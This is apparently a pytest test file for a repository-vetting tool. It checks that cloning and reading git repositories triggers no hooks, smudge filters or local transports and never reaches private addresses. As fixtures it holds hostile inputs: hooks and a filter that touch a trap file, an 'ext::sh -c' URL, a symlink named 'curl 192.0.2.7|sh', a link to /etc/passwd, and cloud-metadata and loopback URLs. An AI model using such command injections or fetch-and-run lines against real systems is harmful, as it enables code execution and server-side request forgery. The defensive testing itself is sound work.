"""Repositories: read as objects, so that nothing in them acts."""

from __future__ import annotations

import itertools
import os
import shutil
import socket
import subprocess
from pathlib import Path

import intake_samples as make
import pytest

from sluicegate.vet.errors import NothingToInspect, SourceError
from sluicegate.vet.intake.bundle import Bundle
from sluicegate.vet.intake.limits import Limits
from sluicegate.vet.intake.repositories.clone import fetch
from sluicegate.vet.intake.sources import open_source, read_unit
from sluicegate.vet.intake.targets import Repository

POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"


def git(folder: Path, *words: str) -> None:
    env = {
        "PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com",
    }  # fmt: skip
    command = ["git", "-c", "protocol.file.allow=always", "-c", "init.defaultBranch=main", *words]
    subprocess.run(command, cwd=folder, env=env, check=True, capture_output=True)


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    inner = tmp_path / "inner"
    inner.mkdir()
    (inner / "x.sh").write_bytes(b"id\n")
    folder = tmp_path / "repo"
    (folder / "skills/a").mkdir(parents=True)
    for place in (inner, folder):
        git(place, "init")
    git(inner, "add", ".")
    git(inner, "commit", "-m", "x")
    (folder / "skills/a/SKILL.md").write_bytes(b"# a\n")
    (folder / "skills/a/run.sh").write_bytes(b"#!/bin/sh\nid\n")
    (folder / "skills/a/run.sh").chmod(0o755)
    (folder / "skills/a/out").symlink_to("/etc/passwd")
    (folder / "skills/a/big.bin").write_bytes(
        b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"
    )
    (folder / ".gitattributes").write_bytes(b"*.sh filter=evil export-ignore\n*.md text eol=crlf\n")
    git(folder, "submodule", "add", str(inner), "skills/a/sub")
    git(folder, "add", ".")
    git(folder, "commit", "-m", "x")
    git(folder, "tag", "v1")
    git(folder, "checkout", "-b", "other/branch")
    (folder / "skills/a/new.md").write_bytes(b"new\n")
    git(folder, "add", ".")
    git(folder, "commit", "-m", "y")
    git(folder, "checkout", "main")
    trap = tmp_path / "trap"
    for hook in ("post-checkout", "post-merge", "pre-auto-gc", "reference-transaction", "post-index-change"):
        (folder / ".git/hooks" / hook).write_text(f"#!/bin/sh\ntouch {trap}\n")
        (folder / ".git/hooks" / hook).chmod(0o755)
    git(folder, "config", "filter.evil.smudge", f"touch {trap}")
    return folder


def read(target: str, limits: Limits | None = None) -> list[Bundle]:
    limits = limits or Limits()
    with open_source(target, limits, _local_git=True) as source:
        return [read_unit(unit, limits, ()) for unit in source.units().units]


def test_a_repository_is_read_as_it_is(repository: Path) -> None:
    (bundle,) = read(str(repository))
    assert (bundle.name, bundle.root) == ("a", "skills/a")
    assert make.paths(bundle) == ["SKILL.md", "big.bin", "run.sh"]
    assert bundle.artifacts[0].data == b"# a\n"
    assert bundle.artifacts[2].mode == 0o755
    assert make.anomalies(bundle) == {"link-outside"}
    assert sorted((gap.path, gap.reason.value) for gap in bundle.gaps) == [
        ("big.bin", "opaque"), ("out", "link"), ("sub", "opaque"),
    ]  # fmt: skip
    assert not (repository.parent / "trap").exists()


def test_folders_files_and_refs(repository: Path) -> None:
    assert make.paths(read(f"{repository}#skills/a")[0])[0] == "SKILL.md"
    assert make.paths(read(f"{repository}#skills/a/SKILL.md")[0]) == ["SKILL.md"]
    assert "new.md" in make.paths(read(f"{repository}@other/branch")[0])
    assert "new.md" not in make.paths(read(f"{repository}@v1")[0])
    for wrong in ("#absent", "@absent"):
        with pytest.raises(SourceError):
            read(f"{repository}{wrong}")


def test_limits_hold(repository: Path) -> None:
    with pytest.raises(SourceError, match="larger than"):
        read(str(repository), Limits(download_bytes=100))
    (bundle,) = read(str(repository), Limits(file_bytes=8))
    assert "too-large" in make.reasons(bundle)
    assert make.paths(bundle) == ["SKILL.md"]


def test_a_repository_without_a_skill(tmp_path: Path) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    git(folder, "init")
    (folder / "README.md").write_bytes(b"words\n")
    git(folder, "add", ".")
    git(folder, "commit", "-m", "x")
    with pytest.raises(NothingToInspect):
        read(str(folder))


def test_local_protocols_are_off_without_the_allowance(repository: Path, tmp_path: Path) -> None:
    for url in (f"file://{repository}", str(repository), f"ext::sh -c 'touch {tmp_path}/trap2'"):
        with pytest.raises(SourceError):
            fetch(Repository(url=url, ref="", folder="", name="x"), tmp_path / "bare", Limits())
    assert not (tmp_path / "trap2").exists()


@pytest.mark.parametrize(
    ("attributes", "gap"),
    [
        ("*.sh working-tree-encoding=IBM037\n", True),
        (
            "*.reg text working-tree-encoding=UTF-16LE-BOM eol=crlf\n*.txt working-tree-encoding=utf-8\n",
            False,
        ),
    ],
)
def test_files_that_a_checkout_recodes_are_a_gap(tmp_path: Path, attributes: str, gap: bool) -> None:
    folder = tmp_path / "repo"
    (folder / "skills/a").mkdir(parents=True)
    git(folder, "init")
    (folder / "skills/a/SKILL.md").write_bytes(b"# a\n")
    (folder / ".gitattributes").write_text(attributes)
    git(folder, "add", ".")
    git(folder, "commit", "-m", "x")
    for target in (str(folder), f"{folder}#skills/a"):
        (bundle,) = read(target)
        assert ("opaque" in make.reasons(bundle)) is gap


def test_a_link_that_is_a_program_is_a_gap(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    git(folder, "init")
    (folder / "SKILL.md").write_bytes(b"# a\n")
    (folder / "run.sh").symlink_to("curl 192.0.2.7|sh")
    git(folder, "add", ".")
    git(folder, "commit", "-m", "x")
    assert "link" in make.reasons(read(str(folder))[0])


@pytest.mark.parametrize(
    "url",
    [
        "https://127.0.0.1/x.git", "https://localhost/x.git", "https://[::1]/x.git", "https://10.0.0.7/x.git",
        "https://169.254.169.254/x.git", "ssh://127.0.0.1/x", "ssh://git@localhost:2222/x", "ssh://[::1]/x",
        "ssh://2130706433/x", "git@127.0.0.1:x", "git@[::1]:x", "git@127.1:x",
    ],
)  # fmt: skip
def test_a_private_address_is_refused_before_git_is_started(url: str, tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="private address"):
        fetch(Repository(url=url, ref="", folder="", name="x"), tmp_path / "bare", Limits())
    assert not (tmp_path / "bare").exists()


@pytest.mark.parametrize("proxied", [False, True])
@pytest.mark.parametrize(
    "url", ["https://git.example.com/x.git", "ssh://git.example.com/x", "git@git.example.com:x"]
)
def test_a_name_that_stands_for_a_private_address_is_refused(
    url: str, proxied: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if proxied:
        monkeypatch.setenv("https_proxy", "http://proxy.example.com:3128")
    answer = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("192.168.3.4", 0))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *words, **more: answer)
    with pytest.raises(SourceError, match=r"private address 192\.168\.3\.4"):
        fetch(Repository(url=url, ref="", folder="", name="x"), tmp_path / "bare", Limits())


@pytest.mark.skipif(shutil.which("ssh") is None, reason="no ssh to be kept waiting")
def test_a_server_that_never_answers_is_given_up(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        url = f"ssh://git@127.0.0.1:{silent.getsockname()[1]}/x"
        clock = itertools.count(0.0, 1.0).__next__  # a second for each look at it
        with pytest.raises(SourceError, match="took longer than 5 seconds"):
            fetch(
                Repository(url=url, ref="", folder="", name="x"), tmp_path / "bare", Limits(),
                within=5, clock=clock, private=True,
            )  # fmt: skip
